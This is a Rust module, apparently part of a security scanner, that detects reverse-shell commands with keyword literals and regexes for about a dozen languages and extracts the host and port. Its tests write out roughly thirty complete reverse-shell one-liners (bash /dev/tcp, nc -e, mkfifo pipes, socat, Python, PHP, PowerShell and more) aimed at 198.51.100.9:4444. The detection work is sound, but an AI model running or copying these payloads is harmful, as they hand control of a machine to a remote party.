//! Commands that hand a shell to another machine, with the machine written out.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::Host;

/// Literals one of which is in every form known here. At least four bytes each.
pub(crate) const LITERALS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -",
    "ncat ",
    "netcat ",
    "mkfifo",
    "dup2(",
    "pty.spawn",
    "socket.socket(",
    "fsockopen",
    "TCPSocket",
    "sockaddr_in(",
    "IO::Socket",
    "socat ",
    "net.Socket",
    "net.connect",
    "child_process",
    "s_client",
    "| nc ",
    "nc.traditional",
    " -e /bin/",
    "telnet ",
    "/inet/tcp/",
    "socket.tcp",
    "require(\"socket\")",
    "require('socket')",
    "net.Dial(",
    "TcpStream::connect",
    "new Socket(",
    "TCPClient(",
    "TcpClient ",
    "TcpClient]",
    "socket_connect(",
    "stream_socket_client",
    "inet_addr(",
    "inet_pton(",
    "createConnection(",
    "create_connection(",
    "xterm -display",
    "zsh/net/tcp",
    "ztcp ",
    "rcat ",
    "TCPSocket.",
];

const HOST_PORT: &str = r"(?P<host>[A-Za-z0-9$_{<\[:][A-Za-z0-9.$_{}<>\[\]:-]*?)";

/// One way to do it.
struct Form {
    name: &'static str,
    pattern: LazyLock<Regex>,
    /// What else must stand within the piece looked at.
    also: &'static [&'static str],
}

macro_rules! form {
    ($name:literal, $pattern:expr, $also:expr) => {
        Form { name: $name, pattern: LazyLock::new(|| regex(&$pattern)), also: $also }
    };
}

static FORMS: [Form; 34] = [
    form!(
        "bash over /dev/tcp",
        format!(
            r"\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*-[li]*i[li]*\b[^\n;|]*(?:>&|&>|>)\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)"
        ),
        &[]
    ),
    form!(
        "shell over a /dev/tcp descriptor",
        format!(
            r"(?s)\d+<>\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+).{{0,200}}?(?:\bsh\b|bash)[^\n|]{{0,20}}<&\s*\d+\s*\d?>&\s*\d+"
        ),
        &[]
    ),
    form!(
        "read loop over /dev/tcp",
        format!(
            r"(?s)\d+<>\s*/dev/tcp/{HOST_PORT}/(?P<port>\d+).{{0,80}}?\|\s*while\s+read\s+(?:-r\s+)?\w+;\s*do\s+[\x22']?\$\{{?\w+\}}?[\x22']?\s+2?>&"
        ),
        &[]
    ),
    form!(
        "netcat that executes a shell",
        format!(
            r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\s+(?:-[a-zA-Z]*\s+)*(?:-\w*[ec]\w*\s+|--(?:sh-)?exec[= ])[\x22']?(?:/\S*/)?(?:ba|da|z|k)?sh[\x22']?(?:\s+-\S+)*\s+{HOST_PORT}\s+(?P<port>\d+)"
        ),
        &[]
    ),
    form!(
        "netcat that executes a shell",
        format!(
            r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\s+(?:-[a-zA-Z]+\s+)*{HOST_PORT}\s+(?P<port>\d+)\s+(?:-[a-zA-Z]+\s+)*(?:-\w*[ec]|--(?:sh-)?exec)[= ]\s*[\x22']?(?:/\S*/)?(?:ba|da|z|k)?sh\b"
        ),
        &[]
    ),
    form!(
        "shell piped into the network",
        format!(
            r"\|\s*(?:/\S*/)?(?:ba|da|z|k)?sh\b[^|\n]{{0,30}}\|\s*(?:nc|ncat|netcat|telnet|busybox nc)\s+(?:-[a-zA-Z]+\s+)*{HOST_PORT}\s+(?P<port>\d+)"
        ),
        &[]
    ),
    form!(
        "shell piped into TLS",
        r"\|\s*openssl\s+s_client\s+[^|\n]*-connect\s+(?P<host>[^\s:|]+):(?P<port>\d+)",
        &["mkfifo", "sh -i"]
    ),
    form!(
        "socat that executes a shell",
        format!(
            r"(?i)\bsocat\b[^\n]*?(?:tcp[46]?|tcp-connect|openssl|ssl|udp[46]?)(?:-connect)?:{HOST_PORT}:(?P<port>\d+)"
        ),
        &["sh", "exec:"]
    ),
    form!(
        "socket given to a shell (Python)",
        r#"(?s)\.connect(?:_ex)?\(\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)\).{0,400}?(?:dup2\(|pty\.spawn\(|stdin\s*=)"#,
        &["socket", "sh"]
    ),
    form!(
        "socket given to a shell (Perl)",
        r#"(?s)(?:\$\w+\s*=\s*['"](?P<host>[^'"\s]+)['"]\s*;\s*\$\w+\s*=\s*(?P<port>\d+)\s*;|PeerAddr\s*(?:=>|,)\s*['"](?P<host2>[^'":\s]+):(?P<port2>\d+)['"])"#,
        &["socket", "STDIN", "sh"]
    ),
    form!(
        "socket given to a shell (PHP)",
        r#"(?s)fsockopen\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)[^)]*\).{0,300}?(?:exec|system|passthru|popen|proc_open)\s*\(\s*['"][^'"\n]{0,30}sh\b[^'"\n]{0,12}<&"#,
        &[]
    ),
    form!(
        "socket given to a shell (Ruby)",
        r#"(?s)TCPSocket\.(?:open|new)\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*['"]?(?P<port>\d+)['"]?\s*\).{0,300}?(?:exec|spawn|IO\.popen)[\s(]+"#,
        &["sh"]
    ),
    form!(
        "socket given to a shell (Node)",
        r#"(?s)connect\(\s*(?P<port>\d+)\s*,\s*['"](?P<host>[^'"\s]+)['"].{0,400}?\.pipe\("#,
        &["child_process", "sh", "spawn"]
    ),
    form!(
        "shell over a /dev/tcp descriptor",
        format!(
            r"exec\s+(?:\d*<>?|[<>]&?|\d+>)\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)[^\n]{{0,40}}(?:0>&1|<&|1>&0|>&0|2>&1)(?s:.{{0,160}}?)\b(?:ba|da|z|k)?sh\b"
        ),
        &[]
    ),
    form!(
        "bash over /dev/tcp",
        format!(
            r"(?:ba|da|z|k)?sh\b[^\n;]{{0,40}}<\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)|\b(?:ba|da|z|k)?sh\b[^\n;|]{{0,30}}(?:&>|>&|>)\s*/dev/(?:tcp|udp)/(?P<host2>[A-Za-z0-9][A-Za-z0-9.-]*)/(?P<port2>\d+)\s*(?:0>&1|<&1|0<&1)"
        ),
        &[]
    ),
    form!(
        "shell piped into telnet",
        format!(r"\btelnet\s+{HOST_PORT}\s+(?P<port>\d+)\s*(?:0<\s*\S+\s*1>\s*\S+|\|\s*(?:/\S*/)?(?:ba|da|z|k)?sh\b)"),
        &[]
    ),
    form!(
        "shell piped into the network",
        format!(
            r"(?s)mk(?:fifo|nod)\s.{{0,160}}?(?:\b(?:nc|ncat|netcat|telnet|busybox nc)\s+(?:-\w+\s+)*{HOST_PORT}\s+(?P<port>\d+)[^\n]{{0,60}}[|<>]|socat[^\n]{{0,40}}tcp[46]?:(?P<host2>[A-Za-z0-9.-]+):(?P<port2>\d+))[^\n]{{0,80}}"
        ),
        &["sh"]
    ),
    form!(
        "awk that talks to the network and runs what it hears",
        format!(r"(?s)/inet/tcp/0/{HOST_PORT}/(?P<port>\d+).{{0,300}}?(?:\|\s*&?\s*getline|\|&)"),
        &["awk", "getline"]
    ),
    form!(
        "socket given to a shell (Lua)",
        r#"(?s)(?::connect\(|socket\.connect\(|socket\.tcp\(\).{0,80}?connect\()\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*['"]?(?P<port>\d+).{0,300}?(?:os\.execute|io\.popen)\s*\("#,
        &["socket"]
    ),
    form!(
        "socket given to a shell (Go)",
        r#"(?s)net\.Dial\(\s*"tcp[46]?"\s*,\s*"(?P<host>[^"\s:]+):(?P<port>\d+)"\s*\).{0,500}?exec\.Command\(\s*"[^"\n]*(?:sh|cmd|cmd\.exe|powershell)""#,
        &[]
    ),
    form!(
        "socket given to a shell (Rust)",
        r#"(?s)TcpStream::connect\(\s*"(?P<host>[^"\s:]+):(?P<port>\d+)"\s*\).{0,500}?Command::new\(\s*"[^"\n]*(?:sh|cmd)""#,
        &[]
    ),
    form!(
        "socket given to a shell (Java)",
        r#"(?s)new\s+(?:java\.net\.)?Socket\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)"#,
        &["sh", "getOutputStream"]
    ),
    form!(
        "socket given to a shell (Java)",
        r#"(?s)String\s+\w+\s*=\s*"(?P<host>[^"\s]+)"\s*;\s*int\s+\w+\s*=\s*(?P<port>\d+)\s*;.{0,200}?(?:ProcessBuilder|\.exec\().{0,120}?new\s+(?:java\.net\.)?Socket\("#,
        &["sh"]
    ),
    form!(
        "socket given to a shell (PowerShell)",
        r#"(?is)TCPClient\]?(?:::new)?[\s(]+['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+).{0,700}?(?:\biex\b|invoke-expression|cmd(?:\.exe)?\s*/c|powershell|/bin/\w*sh)"#,
        &["getstream"]
    ),
    form!(
        "socket given to a shell (C#)",
        r#"(?s)new\s+TcpClient\(\s*"(?P<host>[^"\s]+)"\s*,\s*(?P<port>\d+)\s*\)"#,
        &["Process", "StandardInput"]
    ),
    form!(
        "socket given to a shell (PHP)",
        r#"(?s)(?:fsockopen|stream_socket_client)\(\s*['"](?:tcp://|udp://)?(?P<host>[^'"\s:]+)(?:['"]\s*,\s*|:)(?P<port>\d+).{0,500}?proc_open\s*\("#,
        &["sh"]
    ),
    form!(
        "socket given to a shell (PHP)",
        r#"(?s)\$(?:ip|host|addr|address|server|remote|h|rhost|lhost)\s*=\s*['"](?P<host>[^'"\s]+)['"]\s*;.{0,200}?\$(?:port|p|rport|lport)\s*=\s*['"]?(?P<port>\d+)['"]?\s*;.{0,700}?(?:fsockopen|socket_connect|stream_socket_client)\("#,
        &["sh", "proc_open"]
    ),
    form!(
        "socket given to a shell (PHP)",
        r#"(?s)socket_connect\(\s*\$\w+\s*,\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\).{0,500}?(?:shell_exec|exec|popen|proc_open|system)\s*\(\s*(?:\$|['"][^'"\n]{0,20}sh)"#,
        &["socket_read"]
    ),
    form!(
        "socket given to a shell (Python)",
        r#"(?s)(?:\.connect(?:_ex)?\(\s*\(\s*|create_connection\(\s*\(\s*|open_connection\(\s*)['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)?.{0,700}?(?:recv\(|read\w*\(|makefile\().{0,300}?(?:shell\s*=\s*True|os\.popen\(|getoutput\(|create_subprocess_shell\(|os\.system\()"#,
        &["socket"]
    ),
    form!(
        "socket given to a shell (Python)",
        r#"(?s)(?:^|\n)\s*(?:\w*(?:HOST|host|IP|ip|ADDR|addr|SERVER|server|C2|c2|H|h)\w*)\s*=\s*['"](?P<host>[^'"\s]+)['"].{0,80}?(?:\n|;|,)\s*(?:\w*(?:PORT|port)\w*|P|p)\s*=\s*(?P<port>\d+).{0,600}?\.connect(?:_ex)?\(\s*\(.{0,400}?(?:dup2\(|pty\.spawn\(|stdin\s*=|shell\s*=\s*True)"#,
        &["socket", "sh"]
    ),
    // The host and the port are the usual values of a function's parameters.
    form!(
        "socket given to a shell (Python)",
        r#"(?s)def\s+\w+\([^)\n]{0,80}?\w+(?:\s*:\s*\w+)?\s*=\s*['"](?P<host>[^'"\s]+)['"]\s*,[^)\n]{0,60}?\w+(?:\s*:\s*\w+)?\s*=\s*(?P<port>\d+)[^)\n]{0,80}\).{0,600}?\.connect(?:_ex)?\(\s*\(.{0,400}?(?:dup2\(|pty\.spawn\(|stdin\s*=|shell\s*=\s*True)"#,
        &["socket", "sh"]
    ),
    // Or those it is called with.
    form!(
        "socket given to a shell (Python)",
        r#"(?s)\.connect(?:_ex)?\(\s*\(\s*\w+\s*,\s*\w+\s*\)\s*\).{0,400}?(?:dup2\(|pty\.spawn\().{0,400}?\w\(\s*['"](?P<host>[\w-]+\.[\w.-]+)['"]\s*,\s*(?P<port>\d+)\s*\)"#,
        &["socket", "sh"]
    ),
    form!(
        "socket given to a shell (C)",
        r#"(?s)(?:htons\(\s*(?P<port>\d+)\s*\).{0,300}?(?:inet_addr|inet_aton|inet_pton)\([^"\n]{0,40}"(?P<host>[^"\s]+)"|(?:inet_addr|inet_aton|inet_pton)\([^"\n]{0,40}"(?P<host2>[^"\s]+)".{0,300}?htons\(\s*(?P<port2>\d+)\s*\)).{0,600}?dup2\(.{0,400}?(?:exec[lv]p?e?|system|popen)\s*\("#,
        &["sh\"", "connect("]
    ),
    form!(
        "socket given to a shell (Node)",
        r#"(?s)(?:connect|createConnection)\(\s*\{[^}]{0,120}?(?:port\s*:\s*(?P<port>\d+)[^}]{0,60}?host\s*:\s*['"](?P<host>[^'"\s]+)|host\s*:\s*['"](?P<host2>[^'"\s]+)['"][^}]{0,60}?port\s*:\s*(?P<port2>\d+)).{0,400}?\.pipe\("#,
        &["child_process", "sh", "spawn"]
    ),
];

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is a constant, and a test runs it")
}

/// A shell handed over.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Shell {
    /// How, in words.
    pub(crate) form: &'static str,
    /// Where in the text.
    pub(crate) offset: usize,
    /// To which host, as written.
    pub(crate) host: String,
    /// And which port.
    pub(crate) port: u16,
}

impl Shell {
    /// What kind of host it goes to.
    pub(crate) fn host_kind(&self) -> Host {
        Host::of(&self.host)
    }
}

/// The first match of each form in `text`, which is one window of a file.
pub(crate) fn find(text: &str) -> Vec<Shell> {
    FORMS.iter().filter_map(|form| first(form, text)).collect()
}

fn first(form: &Form, text: &str) -> Option<Shell> {
    if !form.also.iter().all(|word| text.to_ascii_lowercase().contains(&word.to_ascii_lowercase())) {
        return None;
    }
    let found = form.pattern.captures(text)?;
    let whole = found.get(0)?;
    let named = |names: [&str; 2]| names.iter().find_map(|name| group(&found, name));
    let host = named(["host", "host2"])?.to_owned();
    let port = named(["port", "port2"])?.parse().ok()?;
    if form.name.contains("Perl") && !is_perl_shell(text) || form.name.contains("Python") && !text.contains("import") {
        return None;
    }
    if form.name.contains("Java") && !JAVA.is_match(text) {
        return None;
    }
    // One address of the same socat, not one of another example.
    if form.name.starts_with("socat") && !SOCAT.is_match(command_at(text, whole.start())) {
        return None;
    }
    Some(Shell { form: form.name, offset: whole.start(), host, port })
}

fn group<'t>(found: &Captures<'t>, name: &str) -> Option<&'t str> {
    found.name(name).map(|group| group.as_str())
}

static PERL: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?s)(?:open\s*\(?\s*STDIN\s*,\s*['"][<>]*&|STDIN->fdopen\().{0,300}?(?:exec|system)[\s({]*['"$]?[^\n]{0,20}(?:sh\b|\$_)"#,
    )
});
static JAVA: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"(?s)(?:ProcessBuilder\(|\.exec\(|\.execute\(\)).*|["'](?:/bin/)?(?:ba|z|k)?sh["']|["']cmd(?:\.exe)?["']"#)
});
static SOCAT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)\bexec:['"]?[^\n,'"]{0,30}\b(?:ba|da|z|k)?sh\b"#));

fn is_perl_shell(text: &str) -> bool {
    PERL.is_match(text)
}

/// The line from `start` on, with the lines it is continued on.
fn command_at(text: &str, start: usize) -> &str {
    let rest = text.get(start..).unwrap_or_default();
    let end = rest.match_indices('\n').map(|(at, _)| at).find(|at| !rest[..*at].ends_with('\\'));
    rest.get(..end.unwrap_or(rest.len())).unwrap_or(rest)
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn every_form_is_seen_with_its_host() {
        for (text, form) in [
            ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "bash over /dev/tcp"),
            ("0<&196;exec 196<>/dev/tcp/198.51.100.9/4444; sh <&196 >&196 2>&196", "shell over a /dev/tcp descriptor"),
            (
                "exec 5<>/dev/tcp/198.51.100.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
                "read loop over /dev/tcp",
            ),
            ("nc -e /bin/sh 198.51.100.9 4444", "netcat that executes a shell"),
            ("ncat 198.51.100.9 4444 -e /bin/bash", "netcat that executes a shell"),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
                "shell piped into the network",
            ),
            (
                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4444 > /tmp/s",
                "shell piped into TLS",
            ),
            ("socat exec:'bash -li',pty,stderr tcp:198.51.100.9:4444", "socat that executes a shell"),
            (
                "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
                "socket given to a shell (Python)",
            ),
            (
                "use Socket;$i=\"198.51.100.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");",
                "socket given to a shell (Perl)",
            ),
            (
                "$sock=fsockopen(\"198.51.100.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                "socket given to a shell (PHP)",
            ),
            (
                "f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
                "socket given to a shell (Ruby)",
            ),
            ("exec 0<>/dev/tcp/198.51.100.9/4444 1>&0 2>&0; exec sh", "shell over a /dev/tcp descriptor"),
            ("bash &>/dev/tcp/198.51.100.9/4444 <&1", "bash over /dev/tcp"),
            ("sh -i 5<> /dev/tcp/198.51.100.9/4444 0<&5 1>&5 2>&5", "bash over /dev/tcp"),
            ("telnet 198.51.100.9 4444 | /bin/sh | telnet 198.51.100.9 4445", "shell piped into telnet"),
            (
                "TF=$(mktemp -u); mkfifo $TF && telnet 198.51.100.9 4444 0<$TF | sh 1>$TF",
                "shell piped into the network",
            ),
            (
                "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4444\";while(1){printf \"> \" |& s; s |& getline c; while((c |& getline)>0) print |& s; close(c)}}'",
                "awk that talks to the network and runs what it hears",
            ),
            (
                "local s=require('socket');local t=assert(s.tcp());t:connect('198.51.100.9',4444);while true do local r=t:receive();local f=assert(io.popen(r,'r'));end",
                "socket given to a shell (Lua)",
            ),
            (
                "c,_:=net.Dial(\"tcp\",\"198.51.100.9:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Run()",
                "socket given to a shell (Go)",
            ),
            (
                "let s = TcpStream::connect(\"198.51.100.9:4444\").unwrap(); Command::new(\"/bin/sh\").arg(\"-i\")",
                "socket given to a shell (Rust)",
            ),
            (
                "String host=\"198.51.100.9\";int port=4444;String cmd=\"sh\";Process p=new ProcessBuilder(cmd).start();Socket s=new Socket(host,port);",
                "socket given to a shell (Java)",
            ),
            (
                "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.9',4444);$stream = $client.GetStream();while(1){$r=(iex $d 2>&1)}",
                "socket given to a shell (PowerShell)",
            ),
            (
                "$ip = '198.51.100.9';\n$port = 4444;\n$sock = fsockopen($ip, $port, $e, $s, 30);\n$process = proc_open('/bin/sh -i', $d, $pipes);",
                "socket given to a shell (PHP)",
            ),
            (
                "import socket,subprocess\ns=socket.socket()\ns.connect(('198.51.100.9',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    s.send(subprocess.check_output(c,shell=True))",
                "socket given to a shell (Python)",
            ),
            (
                "import socket,os,pty\nHOST = '198.51.100.9'\nPORT = 4444\ns=socket.socket()\ns.connect((HOST, PORT))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
                "socket given to a shell (Python)",
            ),
            (
                "a.sin_port = htons(4444);\na.sin_addr.s_addr = inet_addr(\"198.51.100.9\");\nconnect(s, (struct sockaddr *)&a, sizeof a);\ndup2(s, 0);\nexecve(\"/bin/sh\", v, 0);",
                "socket given to a shell (C)",
            ),
            (
                "const cp=require('child_process');const net=require('net');const c=net.createConnection({host:'198.51.100.9',port:4444},()=>{const sh=cp.spawn('/bin/sh');c.pipe(sh.stdin);sh.stdout.pipe(c)})",
                "socket given to a shell (Node)",
            ),
            (
                "var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'198.51.100.9',function(){k.pipe(s.stdin);s.stdout.pipe(k)})",
                "socket given to a shell (Node)",
            ),
        ] {
            let found = find(text);
            let shell = found.iter().find(|shell| shell.form == form).unwrap_or_else(|| panic!("{text}: {found:?}"));
            assert_eq!((shell.host.as_str(), shell.port), ("198.51.100.9", 4444), "{text}");
        }
    }

    #[test]
    fn talking_to_a_port_is_no_shell() {
        for text in [
            "exec 3<>/dev/tcp/198.51.100.9/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3",
            "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; sh -i",
            "nc -z 198.51.100.9 4444 && sh /run.sh",
            "nc -l -p 4444 -e /bin/sh",
            "s = socket.socket(); s.connect((\"198.51.100.9\", 80)); s.send(b'x')",
            "socat tcp-listen:80,fork tcp:198.51.100.9:4444",
            "socat - tcp:198.51.100.9:4444\nsocat - exec:/bin/sh,chroot=/srv",
        ] {
            assert_eq!(find(text), [], "{text}");
        }
    }
}
